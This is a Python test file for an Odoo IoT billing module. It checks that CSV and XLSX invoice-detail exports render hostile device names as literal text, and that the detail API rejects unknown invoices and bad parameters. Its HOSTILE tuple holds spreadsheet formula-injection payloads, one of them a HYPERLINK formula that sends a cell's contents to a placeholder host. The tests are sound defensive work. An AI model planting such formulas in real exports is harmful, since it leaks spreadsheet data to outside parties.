"""The invoice detail, as an auditor downloads it and as an attacker probes its route.

Device names and usage references come from gateways: in the CSV and the XLSX they are
data that a spreadsheet shows, never a formula it runs (issue #8).
"""

import csv
import io

import openpyxl

from odoo import Command
from odoo.tests import HttpCase, tagged

from .common import BillingFixtures

# What a gateway may send as a device name or a usage reference.
HOSTILE = ('=HYPERLINK("http://x/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@tagged("post_install", "-at_install")
class TestInvoiceDetailExport(BillingFixtures, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_fleet()
        cls.env["iot.usage.mediation.rule"].search([]).unlink()
        cls.plan = cls.make_plan("PLAN-EXPORT", 9.90)
        cls.calculator = cls.make_water_calculator("EXPORT_WATER", 1.5)
        cls.accountant = cls.make_accountant("iot_export_accountant")
        cls.accountant_key = cls.accountant._iot_new_api_key("auditor")

    def bill_hostile_fleet(self):
        """Devices named, and usage referenced, as a hostile gateway would - created,
        activated and fed over the API with the gateway's key - then billed."""
        activation = {
            "customer": "FCT-1",
            "date_start": "2026-10-01",
            "plan": {"product": "PLAN-EXPORT"},
            "term_months": 3,
        }
        status, body = self.api(
            "POST",
            "/devices",
            [
                {"identifier": f"EXPORT_{n}", "name": name, "activation": activation}
                for n, name in enumerate(HOSTILE)
            ],
        )
        self.assertEqual((status, body["created"]), (200, len(HOSTILE)), body)
        records = [
            {
                "device": f"EXPORT_{n}",
                "egroup": "WM",
                "eid": "Type-1",
                "ref": ref,
                "dtu": "2026-10-10T08:00:00Z",
                "int_counter": 4,
            }
            for n, ref in enumerate(HOSTILE)
        ]
        status, body = self.api("POST", "/usage", {"records": records})
        self.assertEqual((status, body["accepted"]), (200, len(HOSTILE)), body)
        run = (
            self.env["iot.billing.run"]
            .with_user(self.accountant)
            .create(
                {
                    "name": "October",
                    "date_from": "2026-10-01",
                    "date_to": "2026-10-31",
                    # The demo fleet's months lie near today's: bill this test's customer.
                    "partner_ids": [Command.set(self.customer.ids)],
                }
            )
        )
        run.action_run()
        self.assertEqual(len(run.invoice_ids), 1)
        return run.invoice_ids

    def download(self, invoice, file_format, level):
        response = self.api_response(
            "GET",
            f"/invoices/{invoice.id}/detail?format={file_format}&level={level}",
            key=self.accountant_key,
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        return response.content

    def assertCsvNeutralised(self, content, column):
        rows = list(csv.reader(io.StringIO(content.decode())))
        header, rows = rows[0], [row for row in rows[1:] if row[0] != "Total"]
        # A device has a row per invoice line it is on (its plan, its usage).
        self.assertEqual(
            sorted({row[header.index(column)] for row in rows}), sorted("'" + v for v in HOSTILE)
        )
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_TRIGGERS), row)

    def assertXlsxLiteral(self, content, column):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
        header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
        texts = [
            row[header.index(column)]
            for row in sheet.iter_rows(min_row=2, values_only=True)
            if row[0] != "Total"
        ]
        self.assertEqual(sorted(set(texts)), sorted(HOSTILE), "the text as it was sent")
        quantities = [
            cell.data_type
            for cell in next(sheet.iter_cols(min_col=len(header), max_col=len(header)))[1:]
        ]
        self.assertEqual(set(quantities), {"n"}, "numbers stay numbers")

    def test_exports_never_hold_a_formula(self):
        invoice = self.bill_hostile_fleet()
        self.assertCsvNeutralised(self.download(invoice, "csv", "device"), "Device name")
        self.assertCsvNeutralised(self.download(invoice, "csv", "record"), "Reference")
        self.assertXlsxLiteral(self.download(invoice, "xlsx", "device"), "Device name")
        self.assertXlsxLiteral(self.download(invoice, "xlsx", "record"), "Reference")
        # The invoice's buttons, as the accountant presses them: a download over the
        # session.
        self.authenticate(self.accountant.login, self.accountant.login)
        for file_format, check in (
            ("csv", self.assertCsvNeutralised),
            ("xlsx", self.assertXlsxLiteral),
        ):
            action = (
                invoice.with_user(self.accountant)
                .with_context(iot_detail_format=file_format)
                .action_iot_export_detail()
            )
            response = self.url_open(action["url"])
            self.assertEqual(response.status_code, 200, response.text[:300])
            check(response.content, "Device name")

    def test_detail_route_answers_json(self):
        invoice = self.bill_hostile_fleet()
        missing = self.api("GET", f"/invoices/{invoice.id + 10**6}/detail", key=self.accountant_key)
        self.assertEqual(missing[0], 404, missing)
        for number in (2**31, 2**63):
            with self.subTest(number=number):
                self.assertEqual(
                    self.api("GET", f"/invoices/{number}/detail", key=self.accountant_key),
                    missing,
                )
        # Another company's accountant: the invoice is as unknown as a missing one.
        other = self.make_accountant(
            "iot_export_accountant_b",
            company_id=self.company_b.id,
            company_ids=[Command.set(self.company_b.ids)],
        )
        other_key = other._iot_new_api_key("auditor B")
        self.assertEqual(
            self.api("GET", f"/invoices/{invoice.id}/detail", key=other_key),
            self.api("GET", f"/invoices/{invoice.id + 10**6}/detail", key=other_key),
        )
        self.assertEqual(missing[1]["error"]["code"], "not_found")
        for query, field in (("format=pdf", "format"), ("level=row", "level")):
            with self.subTest(query=query):
                status, body = self.api(
                    "GET", f"/invoices/{invoice.id}/detail?{query}", key=self.accountant_key
                )
                self.assertEqual(status, 400, body)
                self.assertEqual(body["error"]["details"][0]["field"], field)
